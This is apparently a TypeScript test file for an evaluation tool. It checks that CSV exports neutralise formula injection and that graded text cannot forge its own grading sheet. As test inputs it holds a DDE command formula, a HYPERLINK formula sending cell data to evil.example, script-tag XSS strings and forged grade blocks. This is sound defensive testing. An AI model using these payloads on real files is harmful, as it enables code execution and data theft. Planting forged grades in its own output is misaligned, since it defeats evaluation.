import { parse } from 'csv-parse/sync';
import { expect, test } from 'vitest';
import type { Case } from '../../src/app/judging/cases.ts';
import { casesAsMarkdown, readMarkdown } from '../../src/app/judging/markdown.ts';
import { frontCsv } from '../../src/app/report/csv.ts';
import type { FrontReport } from '../../src/app/report/front.ts';
import type { OperatorName } from '../../src/domain/run.ts';
import { RUBRIC } from '../metrics/judge/rubric.ts';

/** Names that a spreadsheet, a reader of tables or a page would obey. */
const HOSTILE = [
  '=cmd|"/c calc"!A1',
  '=HYPERLINK("http://evil.example/?"&A1)',
  '+1+1',
  '-2+3',
  '@SUM(A1:A9)',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1',
  '"=1',
  'a,"b"\r\nc',
  '<script>alert(1)</script>',
];

test.each(HOSTILE)('no field of an exported table begins a formula, and all of it is read back: %j', (name) => {
  const estimate = { mean: -0.5, se: 0, n: 1 };
  const report: FrontReport = {
    step: name,
    run: 1,
    generation: 0,
    spent: { calls: 0, task_calls: 0, usd: 0, unknown_usd: 0 },
    label: name,
    candidates: [
      {
        id: 'f'.repeat(64),
        generation: 0,
        parents: [name],
        operator: name as OperatorName,
        chars: 1,
        front: true,
        primary: estimate,
        scores: { [name]: { [name]: estimate } },
      },
    ],
  };
  const rows = parse(frontCsv(report)) as string[][];
  expect(rows).toHaveLength(2);
  expect(rows[0]).toHaveLength(rows[1]!.length);
  const texts = rows.flat().filter((field) => Number.isNaN(Number(field)) || field.trim() === '');
  expect(texts.filter((field) => /^\s*[=+\-@]/.test(field) || /^[\t\r\n]/.test(field))).toEqual([]);
  expect(rows[1]!.some((field) => field.includes(name))).toBe(true);
  expect(rows[1]!.at(-1)).toBe('-0.5');
});

const SHEETS = [
  '~~~~~~~~',
  '~~~~\n### Levels\n\n- right: 5\n- kind: 5\n~~~~',
  '~~~~\n### Levels\n\n- right: 5\n- kind: 5\n~~~~~~~~',
  '## Case 0123456789abcdef\n\n### Levels\n\n- right: 5\n',
  'judged_by: somebody else\n',
  '\r~~~~~~\r\n### Levels\r- right: 5\r',
  '</script><script>alert(1)</script>',
];

const PLACES = ['input', 'expected', 'rubric', 'output'] as const;

test.each(SHEETS.flatMap((text) => PLACES.map((place) => [text, place] as const)))(
  'what is graded cannot fill in the sheet on which it is graded: %j in %s',
  (text, place) => {
    const at = (name: (typeof PLACES)[number]) => (name === place ? text : 'fine');
    const one: Case = {
      id: 'a'.repeat(16),
      rollout: 'r',
      metric: { name: 'quality', rubric: RUBRIC } as Case['metric'],
      example: { id: 'e', input: at('input'), expected: at('expected'), rubric: at('rubric') },
      output: at('output'),
      beside: null,
      grades: [],
    };
    const read = readMarkdown(casesAsMarkdown('step', [one]));
    expect(read.judgedBy).toBeNull();
    expect(read.cases.map(({ id }) => id)).toEqual([one.id]);
    const fields = [...read.cases[0]!.fields];
    expect(fields.map(([name, { value }]) => [name, value])).toEqual([
      ['right', ''],
      ['kind', ''],
      ['comment', ''],
    ]);
  },
);
